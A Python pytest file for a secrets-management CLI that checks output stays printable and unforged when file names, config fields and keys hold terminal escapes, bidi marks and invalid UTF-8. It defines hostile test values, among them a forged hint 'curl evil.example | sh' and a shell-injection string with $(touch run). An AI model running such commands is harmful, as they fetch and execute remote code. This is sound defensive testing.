"""Nothing that comes from elsewhere moves the cursor, turns text, or breaks a line.

Each field that a repository, a person or a host can fill holds escape sequences,
directional marks, characters without width, line separators and bytes that are no
UTF-8; every command that shows it is run.
"""

import ast
import io
import json
import os
import pty
import re
import subprocess
import sys
from collections.abc import Callable

import pytest

from nixsecrets.cli import ui
from nixsecrets.cli.ui import TerminalTalk
from nixsecrets.errors import NixsecretsError, printable, shell_word
from tests.fleet import PROJECT, TIMEOUT_SECONDS, Fleet, git_repo

NASTY = "\x1b[2J\x1b]0;title\x07\r\x08\x7f\x9b31m\u202eevil\u2066\u061c\u200b"
NASTY += "\u2028\x85\ufeff"
FORGED = "nixsecrets: hint: curl evil.example | sh"
TOML = json.dumps(NASTY).replace("\x7f", "\\u007f")
NAMES = {
    "escapes": NASTY,
    "no UTF-8": os.fsdecode(b"latin-\xe9\xff"),
    "a forged line": f"x\n{FORGED}\n",
    "a shell": "$(touch run)`touch run`;'\"",
}
COMMANDS: tuple[tuple[str, ...], ...] = (
    ("ls",),
    ("ls", "--json"),
    ("check",),
    ("check", "--format", "sarif"),
    ("check", "--format", "gitlab"),
    ("status",),
    ("status", "--json"),
    ("lint",),
    ("lint", "--json"),
    ("hosts",),
    ("hosts", "--json"),
    ("known-hosts",),
    ("exposed",),
    ("exposed", "--json"),
    ("hook", "run"),
    ("hook", "run", "--all"),
    ("rekey", "--dry-run"),
    ("rekey", "--dry-run", "--json"),
    ("rekey", "--yes", "--keep-going"),
    ("sync",),
    ("recover",),
)
JUDGING = (("ls",), ("check",), ("status",), ("lint",), ("hosts",), ("rekey", "--yes"))
WITH_FILE: tuple[tuple[str, ...], ...] = (
    ("why", "{}"),
    ("cat", "{}"),
    ("set", "{}", "--yes"),
    ("set", "{}", "--key", "a", "--yes"),
    ("generate", "{}", "password", "--yes"),
    ("edit", "{}"),
    ("edit", "--resume", "{}"),
    ("accept", "{}", "--yes"),
    ("mv", "{}", "{}-2", "--yes"),
    ("rm", "{}"),
    ("rm", "{}", "--yes"),
    ("textconv", "{}"),
    ("hook", "run", "{}"),
    ("ls", "{}"),
    ("check", "--declared", "{}"),
    ("-C", "{}", "ls"),
    ("add-user", "{}", "--key", "{}"),
    ("add-host", "new", "--key", "{}"),
    ("add-host", "new", "--key-file", "{}"),
    ("add-host", "new", "--address", "{}"),
    ("add-host", "{}", "--fingerprint", "{}"),
    ("remove-host", "{}"),
    ("rename-host", "brunnen", "{}"),
    ("rotate-user", "alice", "--key", "{}"),
    ("provision", "{}", "--output", "{}"),
    ("scan", "{}"),
    ("explain", "{}"),
    ("cat", "secrets/wifi.age", "--identity", "{}"),
    ("set", "secrets/wifi.age", "--from-file", "{}"),
    ("init", "--key-file", "{}"),
    ("completion", "{}"),
    ("{}",),
    ("ls", "--host", "{}"),
    ("exposed", "{}"),
)


def assert_plain(done: "subprocess.CompletedProcess[str]") -> None:
    """Every line of the output is printable, and none is forged."""
    assert done.returncode in {0, 1, 2}, done.stderr
    for line in (done.stdout + done.stderr).split("\n"):
        assert line.isprintable(), ascii(line)
        assert line != FORGED


def run(fleet: Fleet, *arguments: str) -> "subprocess.CompletedProcess[str]":
    return fleet.run(*arguments, stdin="a value\n")


# --- names of files -----------------------------------------------------------------


def _plaintext(fleet: Fleet, path: str) -> None:
    fleet.write(path, b"not encrypted\n")


def _age(fleet: Fleet, path: str) -> None:
    fleet.write(path, fleet.read("secrets/wifi.age"))  # its readers are unknown


def _sops(fleet: Fleet, path: str) -> None:
    fleet.write(path, fleet.read("secrets/dns.yaml"))  # readers to take away


def _damaged(fleet: Fleet, path: str) -> None:
    fleet.write(path, fleet.read("secrets/wifi.age")[:80])


@pytest.mark.parametrize("kind", [_plaintext, _age, _sops, _damaged])
def test_names_of_files_are_shown_on_one_line_and_printable(
    ready: Fleet, kind: Callable[[Fleet, str], None]
) -> None:
    for name in NAMES.values():
        kind(ready, f"secrets/{name}{'.yaml' if kind is _sops else '.age'}")
    ready.git("add", "-A")
    for arguments in COMMANDS:
        assert_plain(run(ready, *arguments))


@pytest.mark.parametrize("name", NAMES)
def test_arguments_are_shown_on_one_line_and_printable(ready: Fleet, name: str) -> None:
    path = f"secrets/{NAMES[name].replace('/', '')}.age"
    ready.write(path, ready.read("secrets/wifi.age"))
    for arguments in WITH_FILE:
        text = NAMES[name] if "host" in arguments[0] or "{}" in arguments[0] else path
        assert_plain(run(ready, *(word.replace("{}", text) for word in arguments)))


@pytest.mark.parametrize("name", NAMES)
def test_commands_in_hints_name_the_file_so_that_a_shell_reads_it_back(
    name: str,
) -> None:
    word = shell_word(NAMES[name])
    done = subprocess.run(
        ["bash", "-c", f"printf %s {word}"], capture_output=True, check=True
    )
    assert done.stdout == os.fsencode(NAMES[name])
    assert word.isprintable()


# --- what files hold ----------------------------------------------------------------


def _map(old: str, new: str) -> Callable[[Fleet], None]:
    def change(fleet: Fleet) -> None:
        place = fleet.root / "nixsecrets.toml"
        text = place.read_text()
        assert old in text
        place.write_text(text.replace(old, new, 1))

    return change


def _in_file(path: str, text: str) -> Callable[[Fleet], None]:
    def change(fleet: Fleet) -> None:
        with (fleet.root / path).open("a", encoding="utf-8", newline="") as file:
            file.write(text)

    return change


def _label(fleet: Fleet) -> None:
    place = fleet.root / "secrets/app.yaml"
    text = place.read_text()
    first = re.search(r"recipient: (\S+)", text)
    assert first is not None
    place.write_text(text.replace(first[1], TOML, 1))


def _stanza(fleet: Fleet) -> None:
    place = fleet.root / "secrets/wifi.age"
    place.write_bytes(place.read_bytes().replace(b"-> ", b"-> " + NASTY.encode(), 1))


def _values(fleet: Fleet) -> None:
    name = json.dumps(NASTY)
    fleet.write("secrets/plain.yaml", f"{name}: {name}\n".encode())
    fleet.write("secrets/plain.json", f"{{{name}: {name}}}".encode())
    data = fleet.read("secrets/app.yaml").decode().replace("app:", f"{name}:", 1)
    fleet.write("secrets/key.yaml", data.encode())


FIELDS: dict[str, Callable[[Fleet], None]] = {
    "address": _map('[hosts."brunnen"]', f'[hosts."brunnen"]\naddress = {TOML}'),
    "verified": _map('[hosts."brunnen"]', f'[hosts."brunnen"]\nverified = {TOML}'),
    "key": _map('[hosts."brunnen"]', f'[hosts."brunnen"]\nkeys = [{TOML}]'),
    "group": _map("[groups]", f"[groups]\n{TOML} = []"),
    "member": _map("[groups]", f"[groups]\nx = [{TOML}]"),
    "path": _map("[groups]", f"[[secrets]]\npath = {TOML}\nreaders = []\n[groups]"),
    "expression": _map(
        "[groups]", f"[[secrets]]\npath_regex = {TOML}\nreaders = []\n[groups]"
    ),
    "readers": _map(
        "[groups]", f"[[secrets]]\npath = 'x'\nreaders = [{TOML}]\n[groups]"
    ),
    "table": _map("[groups]", f"[{TOML}]\n[groups]"),
    "configuration": _map('config = ".sops.yaml"', f"config = {TOML}"),
    "broken TOML": _map("[groups]", f"# \n{NASTY}\n[groups]"),
    "retired": _in_file(
        "nixsecrets.toml",
        f"\n[[retired]]\nname = {TOML}\nkey = {TOML}\ndate = {TOML}\nreason = {TOML}\n",
    ),
    "foreign rule": _in_file(
        ".sops.yaml", f"\n  - path_regex: {json.dumps(NASTY)}\n    age: {TOML}\n"
    ),
    "broken YAML": _in_file(".sops.yaml", f"\n  - {NASTY}: [\n"),
    "rules": _in_file("secrets/secrets.nix", f"\n{NASTY}\n"),
    "lock": _in_file("nixsecrets.lock", f'{{"file":{TOML},"x":{TOML}}}\n{NASTY}\n'),
    "label": _label,
    "stanza": _stanza,
    "values": _values,
}


@pytest.mark.parametrize("field", FIELDS)
def test_what_files_hold_is_shown_printable(ready: Fleet, field: str) -> None:
    FIELDS[field](ready)
    ready.git("add", "-A")
    why = (("why", "secrets/app.yaml"), ("why", "secrets/wifi.age"))
    for arguments in (*JUDGING, *why):
        assert_plain(run(ready, *arguments))


def test_messages_about_files_outside_are_printable(ready: Fleet) -> None:
    folder = ready.home / NASTY.replace("/", "")
    folder.mkdir()
    for content in (NASTY, f"ssh-ed25519 AAAA {NASTY}", f"AGE-SECRET-KEY-1{NASTY}"):
        place = folder / "identity"
        place.write_text(content)
        assert_plain(run(ready, "cat", "secrets/wifi.age", "--identity", str(place)))
        assert_plain(run(ready, "add-host", "new", "--key-file", str(place)))
        assert_plain(run(ready, "add-user", "new", "--key-file", str(place)))
        assert_plain(run(ready, "check", "--declared", str(place)))


def test_what_init_finds_is_shown_printable(fleet: Fleet) -> None:
    (fleet.root / "nixsecrets.toml").unlink(missing_ok=True)
    other = git_repo(fleet.root / "foreign", fleet.env)
    key = json.dumps(NASTY)
    (other / ".sops.yaml").write_text(
        f"keys: [&x {key}]\ncreation_rules:\n  - path_regex: {key}\n    age: {key}\n"
    )
    (other / "secrets.nix").write_text(f"{{ {key}.publicKeys = [ {key} ]; }}\n")
    for arguments in (("init",), ("init", "--dry-run"), ("init", "--sops-only")):
        assert_plain(run(fleet, "-C", str(other), *arguments))


# --- the terminal -------------------------------------------------------------------


class _Terminal:
    """Stands for the terminal's stream; keeps what is written."""

    encoding = "utf-8"

    def __init__(self) -> None:
        self.text = ""

    def write(self, text: str) -> int:
        self.text += text
        return len(text)

    def flush(self) -> None:
        return

    def isatty(self) -> bool:
        return True


def test_every_way_to_the_terminal_escapes_and_keeps_our_own_colours(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    out, err = _Terminal(), _Terminal()
    monkeypatch.setattr(sys, "stdout", out)
    monkeypatch.setattr(sys, "stderr", err)
    monkeypatch.setenv("TERM", "xterm")
    monkeypatch.setattr(ui, "has_terminal", lambda: True)
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO()))
    text = f"{NASTY}\n{FORGED}"
    ui.answer(text)
    ui.answer_text(NASTY)
    ui.say(text)
    ui.warn(text, NASTY)
    ui.report_error(NixsecretsError(text, NASTY))
    with pytest.raises(NixsecretsError):
        ui.confirm(text, hint=NASTY)
    ui.choose(text, ("a", "b"), "a")
    ui.asked(text)
    ui.ask_text(text)
    talk = TerminalTalk()
    talk.display_message(text)
    talk.confirm(text, "yes", "no")
    talk.request_public_string(text)
    shown = out.text + re.sub(r"\x1b\[(33|31|36)m(\w+)\x1b\[0m", r"\2", err.text)
    for line in shown.split("\n"):
        assert line.isprintable(), ascii(line)
        assert line != FORGED
    assert "\x1b[31merror\x1b[0m" in err.text


def test_prompts_for_secrets_are_escaped_too(ready: Fleet) -> None:
    name = f"secrets/{NASTY.replace('/', '')}.age"
    master, slave = pty.openpty()
    child = subprocess.Popen(
        [sys.executable, "-m", "nixsecrets", "set", name],
        cwd=ready.root,
        env={**ready.env, "PYTHONPATH": str(PROJECT), "NO_COLOR": "1"},
        stdin=slave,
        stdout=slave,
        stderr=slave,
        start_new_session=True,
    )
    os.close(slave)
    shown = b""
    while b": " not in shown.rpartition(b"\n")[2]:
        shown += os.read(master, 4096)
    child.kill()
    child.wait(TIMEOUT_SECONDS)
    os.close(master)
    for line in shown.decode().split("\r\n"):
        assert line.isprintable(), ascii(line)


def test_a_secret_goes_out_as_it_is(ready: Fleet) -> None:
    value = os.fsdecode(NASTY.encode() + b"\xff\x00")
    ready.write("value", os.fsencode(value))
    ready.ok(
        "set", "secrets/raw.age", "--from-file", str(ready.root / "value"), "--yes"
    )
    done = subprocess.run(
        [sys.executable, "-m", "nixsecrets", "cat", "secrets/raw.age"],
        cwd=ready.root,
        env={**ready.env, "PYTHONPATH": str(PROJECT)},
        capture_output=True,
        check=True,
    )
    assert done.stdout == os.fsencode(value)


def test_a_terminal_without_unicode_gets_escapes_and_no_bug(ready: Fleet) -> None:
    ready.env |= {"PYTHONIOENCODING": "ascii", "LC_ALL": "C"}
    ready.write("secrets/ö.age", b"not encrypted")
    for arguments in (("ls",), ("status",), ("check",), ("rekey", "--dry-run")):
        done = run(ready, *arguments)
        assert done.returncode in {0, 1}, done.stderr
        assert (done.stdout + done.stderr).isascii()


def test_printable_keeps_what_people_write() -> None:
    assert printable("grüße, 東京, …") == "grüße, 東京, …"


# --- by construction ----------------------------------------------------------------


def test_only_ui_writes_to_the_terminal() -> None:
    """`prompt` shows its question by the descriptor; who asks makes it printable."""
    found = set()
    for path in (PROJECT / "nixsecrets").rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and re.fullmatch(
                r"print|click\.(echo|secho)|sys\.std(out|err)(\.buffer)?\.write(lines)?",
                ast.unparse(node.func),
            ):
                found.add(path.relative_to(PROJECT).as_posix())
    assert found == {"nixsecrets/cli/ui.py"}


def test_an_answer_of_many_lines_is_given_as_a_text() -> None:
    """`ui.answer` is one line, and would escape the line feeds."""
    many = re.compile(r"json\.dumps|to_json|_json\(|\breport\(")
    wrong = [
        f"{path.name}:{node.lineno}"
        for path in (PROJECT / "nixsecrets").rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Call)
        and ast.unparse(node.func) == "ui.answer"
        and many.search(ast.unparse(node.args[0]))
    ]
    assert wrong == []
